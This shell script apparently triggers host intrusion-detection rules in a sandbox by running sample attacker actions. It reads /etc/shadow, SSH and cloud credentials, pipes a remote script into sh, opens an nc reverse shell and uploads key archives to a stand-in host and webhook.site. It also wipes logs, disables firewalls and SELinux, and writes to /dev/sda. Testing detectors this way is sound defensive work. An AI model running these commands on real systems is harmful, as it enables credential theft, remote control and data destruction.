# What the rules for hosts look for, area by area. Run by run.sh.
python=$(readlink -f "$(command -v python3.11 || command -v python3)")
calls=/run/behaviour/calls.py
do_() { "$python" "$calls" "$@"; }
# A copy of a program under another name, in a folder of programs that nobody trusts.
mkdir /tmp/bin
as() { cp "$(readlink -f "$(type -P "$2")")" "/tmp/bin/$1"; }
for name in pkexec su docker crontab systemctl setenforce iptables chattr nmap ssh chisel nc xmrig pkill; do as $name true; done
for name in npm nginx postgres sudo vim; do as $name bash; done
as doas false
for name in php-fpm8.2 implant sshd; do cp "$python" /tmp/bin/$name; done

do_ serve &
server=$!
sleep 1
useradd -m ann
mkdir -p /home/ann/.ssh /home/ann/.aws /home/ann/.kube /root/.ssh /etc/kubernetes /var/www/html/uploads
echo secret | tee /home/ann/.ssh/id_ed25519 /home/ann/.aws/credentials /home/ann/.kube/config /home/ann/.npmrc \
    /etc/kubernetes/admin.conf /var/www/html/.env

# Credential access
cat /etc/shadow
ln -s /etc/shadow /tmp/link
cat /home/ann/.ssh/id_ed25519
cat /home/ann/.aws/credentials
/tmp/bin/npm -c 'sh -c "cat /home/ann/.aws/credentials; true"; true'
grep -rl "PRIVATE KEY" /home/ann
cat /etc/kubernetes/admin.conf
curl -s -m 1 http://169.254.169.254/latest
do_ memory
cat /proc/$$/environ
/tmp/bin/sshd -c 'import time; time.sleep(1)' &
do_ attach $!
/tmp/bin/nginx -c 'sh -c "cat /var/www/html/.env; true"; true'

# Execution
do_ memfd
cp /bin/true /dev/shm/a && /dev/shm/a
mkdir /tmp/.h && cp /bin/true /tmp/.h/a && /tmp/.h/a
do_ back
"$python" -c 'import socket, subprocess, os; os.dup2'
sh -c 'curl -s -m 1 http://203.0.113.9/x.sh | sh'
bash -c 'echo dHJ1ZQo= | base64 -d | sh'
/tmp/bin/nginx -c 'sh -c id; true'
/tmp/bin/postgres -c 'sh -c id; true'
cp /bin/true /tmp/a
setpriv --reuid 33 --clear-groups /tmp/a
/lib64/ld-linux-x86-64.so.2 /tmp/a

# Persistence
echo x > /etc/cron.d/x
echo | /tmp/bin/crontab -
echo x > /etc/systemd/system/x.service
: > /etc/ld.so.preload
rm -f /etc/ld.so.preload
LD_PRELOAD=/tmp/none.so /bin/true
echo >> /etc/pam.d/other
echo key >> /root/.ssh/authorized_keys
echo true >> /home/ann/.bashrc
mkdir -p /etc/udev/rules.d /etc/modules-load.d /etc/sudoers.d
echo > /etc/udev/rules.d/9.rules
echo > /etc/modules-load.d/x.conf
echo > /etc/rc.local
echo >> /etc/passwd
useradd zed
/tmp/bin/php-fpm8.2 -c 'open("/var/www/html/uploads/a.php", "w").close()'
cp /bin/true /usr/sbin/zz
mkdir -p /opt/site-packages
"$python" -c 'open("/opt/site-packages/z.pth", "w").close()'

# Privilege escalation
cp /bin/true /home/ann/s
chmod 4755 /home/ann/s
setpriv --reuid 1234 --clear-groups sh -c 'exec /home/ann/s'
echo > /etc/sudoers.d/x
GLIBC_TUNABLES=glibc.malloc.mxfast=1 /tmp/bin/su
/tmp/bin/pkexec
setpriv --reuid 1234 --clear-groups unshare -U true
: > /proc/sys/kernel/core_pattern
do_ bpf
do_ inject
setpriv --reuid 1234 --clear-groups "$python" "$calls" userfaultfd
bash -c 'echo 1000 > /proc/self/loginuid
    /tmp/bin/sudo -c "/tmp/bin/vim -c \"sh -c id; true\"; true"
    /tmp/bin/docker run --privileged alpine'

# Defense evasion
: > /var/log/auth.log
rm -f /var/log/auth.log
touch /var/log/wtmp && truncate -s0 /var/log/wtmp
echo > /root/.bash_history && rm -f /root/.bash_history
/tmp/bin/systemctl stop auditd
/tmp/bin/setenforce 0
/tmp/bin/iptables -F
(exec -a '[kworker/0:1]' /bin/true)
do_ rename_itself
cp "$python" /opt/itself && /opt/itself "$calls" remove /opt/itself
sleep 2 &
mount -t tmpfs tmpfs "/proc/$!" && umount "/proc/$!"
: > /proc/sys/kernel/randomize_va_space
touch -r /bin/ls /usr/bin/zz
/tmp/bin/chattr +i /etc/cron.d/x
/tmp/bin/implant "$calls" uring

# Discovery and lateral movement
/tmp/bin/nmap
find /home/ann -perm -4000
id; whoami; uname; hostname; ps; df; env
/tmp/bin/nginx -c '/tmp/bin/ssh root@10.0.0.7; true'
do_ unix /tmp/ssh-XXXX/agent.1

# Command and control, exfiltration
/tmp/bin/chisel client
/tmp/bin/ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no x
do_ connect 127.0.0.1 9050
/tmp/bin/nc -e /bin/sh 203.0.113.9 4444
/tmp/bin/implant "$calls" connect 203.0.113.9 443
curl -s -m 1 -d x https://webhook.site/x
echo > /tmp/data
/tmp/bin/nginx -c 'curl -s -m 1 -T /tmp/data http://203.0.113.9/; true'
tar czf /tmp/home.tgz /home/ann/.ssh /home/ann/.aws
curl -s -m 1 -T /tmp/home.tgz http://203.0.113.9/

# Impact
/tmp/bin/xmrig -o stratum+tcp://x:1
/tmp/bin/implant "$calls" connect 203.0.113.9 3333
/tmp/bin/pkill -9 -f kdevtmpfsi
echo > /home/ann/HOW_TO_DECRYPT_FILES.txt
echo > /dev/sda
mkdir -p /var/backups/db && rm -rf /var/backups/db

# What only shows in several events
curl -s -o /tmp/program file:///bin/true
chmod +x /tmp/program && /tmp/program
curl -s -m 1 -o /tmp/script http://203.0.113.9/x
sh /tmp/script
/tmp/bin/php-fpm8.2 -c 'import shutil; shutil.copyfile("/bin/true", "/var/www/html/up")'
chmod +x /var/www/html/up && /var/www/html/up
for act in steal refused ports machines dns lock wipe; do do_ $act; done
/tmp/bin/sshd "$calls" sshd &
sleep 1
do_ call
cp "$(command -v sleep)" /tmp/sleeper
/tmp/sleeper 1 &
sleep .2
rm -f /tmp/sleeper
as httpd bash
for _ in 1 2 3 4 5 6; do /tmp/bin/httpd -c 'kill -SEGV $$'; done
for _ in 1 2 3 4 5 6; do /tmp/bin/doas; done
sleep 2
kill $server
